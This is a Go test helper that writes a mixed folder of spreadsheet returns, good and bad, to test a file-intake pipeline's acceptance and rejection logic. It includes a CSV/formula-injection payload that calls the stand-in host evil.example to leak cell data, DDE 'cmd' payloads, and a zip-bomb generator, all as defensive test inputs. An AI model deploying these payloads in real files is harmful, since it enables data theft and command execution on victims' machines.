package intaketest

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"

	"opkit/internal/model"
	"opkit/internal/outcome"
)

// Want is the expected fate of a file of the mixed folder.
type Want struct {
	Status  string // accepted, rejected, superseded, duplicate
	Country string
	Reason  string // a word the reason must contain, for rejections
}

// Extra countries tests add to the demo workspace: one public and one
// low-profile country that send nothing, so that the awaited list has a
// named and an anonymous entry.
var (
	Kenya   = model.Country{Code: "KE", Name: "Kenya", Region: "africa", Language: "en", Visibility: model.VisibilityPublic, Event: model.Event{City: "Nairobi"}}
	Myanmar = model.Country{Code: "MM", Name: "Myanmar", Region: "asia-pacific", Language: "en", Visibility: model.VisibilityLowProfile,
		Event: model.Event{City: "Yangon"}, Partners: []model.Partner{{Name: "Hidden Partner Collective"}}}
)

// Injection is the text the formula-injection return carries in its
// statement; it must come out as text everywhere.
const Injection = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// WriteMixed writes into dir the folder of returns the intake and report
// tests share, built on the demo workspace (CI, CO, GR, SN, ST, TR, UA, VN)
// plus Kenya and Myanmar: good returns of every sharing, a duplicate, a
// superseded return, a renamed file, and every kind of bad file. It returns
// the expected outcome per file name.
func WriteMixed(dir string, ws *model.Workspace) (map[string]Want, error) {
	camp := &ws.Campaign
	want := map[string]Want{}
	var firstErr error
	write := func(name string, data []byte, err error, w Want) {
		if err == nil {
			err = os.WriteFile(filepath.Join(dir, name), data, 0o644)
		}
		if err != nil && firstErr == nil {
			firstErr = fmt.Errorf("%s: %w", name, err)
		}
		want[name] = w
	}
	country := func(code string) *model.Country {
		c := ws.Country(code)
		if c == nil && firstErr == nil {
			firstErr = fmt.Errorf("the workspace has no country %s", code)
		}
		return c
	}
	gr, co, sn, st, tr, ua, vn := country("GR"), country("CO"), country("SN"), country("ST"), country("TR"), country("UA"), country("VN")
	if firstErr != nil {
		return nil, firstErr
	}

	grData, err := Fill(gr, camp, Typical(gr, "gr"))
	write("gr.xlsx", grData, err, Want{Status: "accepted", Country: "GR"})
	write("zz-gr-copy.xlsx", grData, err, Want{Status: "duplicate", Country: ""})

	first := Typical(co, "co-first")
	first.Scalars[outcome.SubmittedOn] = "2027-08-20"
	data, err := Fill(co, camp, first)
	write("co-second.xlsx", data, err, Want{Status: "superseded", Country: "CO"})
	later := Typical(co, "co-later")
	later.Scalars[outcome.SubmittedOn] = "2027-09-02"
	data, err = Fill(co, camp, later)
	write("co-first.xlsx", data, err, Want{Status: "accepted", Country: "CO"})

	snRet := Typical(sn, "sn")
	snRet.Scalars[outcome.SignPosition] = "Signera le 24 septembre" // French label in any pack
	snRet.Scalars[outcome.Participants] = "about sixty"             // a cell error: reported, the return still accepted
	data, err = Fill(sn, camp, snRet)
	write("Outcome FINAL (2).xlsx.download", data, err, Want{Status: "accepted", Country: "SN"})

	stRet := Typical(st, "st")
	stRet.Scalars[outcome.Sharing] = "Coalition only"
	stRet.Scalars[outcome.SignPosition] = "Will not sign"
	data, err = Fill(st, camp, stRet)
	write("st.xlsx", data, err, Want{Status: "accepted", Country: "ST"})

	uaRet := Typical(ua, "ua")
	uaRet.Scalars[outcome.Sharing] = "Anonymised"
	uaRet.Scalars[outcome.AuthorityStatement] = "The deputy minister said in " + ua.Event.City + " that " + ua.Name + " will sign later."
	data, err = Fill(ua, camp, uaRet)
	write("ua.xlsx", data, err, Want{Status: "accepted", Country: "UA"})

	vnRet := Typical(vn, "vn")
	vnRet.Tables[outcome.TableCasesRaised] = [][]string{{"vn-2026-01", "Restricted notes vn"}, {"vn-2026-02", "Event notes vn"}}
	data, err = Fill(vn, camp, vnRet)
	write("vn.xlsx", data, err, Want{Status: "accepted", Country: "VN"})

	trRet := Typical(tr, "tr")
	trRet.Scalars[outcome.AuthorityStatement] = Injection
	trRet.Tables[outcome.TableOpportunities] = [][]string{{"+cmd|' /C calc'!A0", "@SUM(1+1)"}, {"-2+3", "Parliament"}}
	trRet.Tables[outcome.TableCasesRaised] = [][]string{{"tr-2026-01", "Public case notes tr"}, {"tr-2026-02", "Event case notes tr"}, {"tr-2026-03", "Restricted case notes tr"}}
	trRet.Scalars[outcome.EventFormat] = "Garden party" // typed over the drop-down: kept with a warning
	trData, err := Fill(tr, camp, trRet)
	write("tr.xlsx", trData, err, Want{Status: "accepted", Country: "TR"})

	write("ci.xlsx", []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"), nil, Want{Status: "rejected", Reason: "PDF"})
	write("empty.xlsx", nil, nil, Want{Status: "rejected", Reason: "empty"})
	write("=evil.xlsx", []byte("=cmd|' /C calc'!A0,1,2\n"), nil, Want{Status: "rejected", Reason: "not a workbook"})

	data, err = Encrypted(st, camp, "secret")
	write("st-locked.xlsx", data, err, Want{Status: "rejected", Reason: "password"})

	data, err = ZipBomb(2 << 30)
	write("bomb.xlsx", data, err, Want{Status: "rejected", Reason: "unzipped"})

	data, err = WideRows(ua, camp, 3000)
	write("wide.xlsx", data, err, Want{Status: "rejected", Reason: "beyond"})

	if len(trData) > 0 {
		write("truncated.xlsx", trData[:len(trData)*2/3], nil, Want{Status: "rejected", Reason: "truncated"})
	}

	data, err = FillVersion(tr, camp, Typical(tr, "future"), "2.0")
	write("future.xlsx", data, err, Want{Status: "rejected", Reason: "template version"})

	data, err = RewriteParts(grData, func(name string, body []byte) []byte {
		if name != "xl/workbook.xml" {
			return body
		}
		return reMetaNames.ReplaceAll(body, nil)
	})
	write("nometa.xlsx", data, err, Want{Status: "rejected", Reason: "Meta"})

	// Bolivia is not in the demo workspace (Argentina is, since the demo
	// needs a party to the Protocol).
	bo := model.Country{Code: "BO", Name: "Bolivia", Region: "americas", Language: "es"}
	data, err = Fill(&bo, camp, Typical(&bo, "bo"))
	write("bo.xlsx", data, err, Want{Status: "rejected", Country: "BO", Reason: "not in the workspace"})

	mis := Typical(sn, "mismatch")
	mis.Scalars[outcome.CountryCode] = "CI"
	data, err = Fill(sn, camp, mis)
	write("mismatch.xlsx", data, err, Want{Status: "rejected", Country: "CI", Reason: "pack id"})

	if firstErr != nil {
		return nil, firstErr
	}
	return want, nil
}

var reMetaNames = regexp.MustCompile(`<definedName[^>]*name="(` + regexp.QuoteMeta(outcome.NameTemplateVersion) + `|` + regexp.QuoteMeta(outcome.NamePackID) + `)"[^>]*>[^<]*</definedName>`)
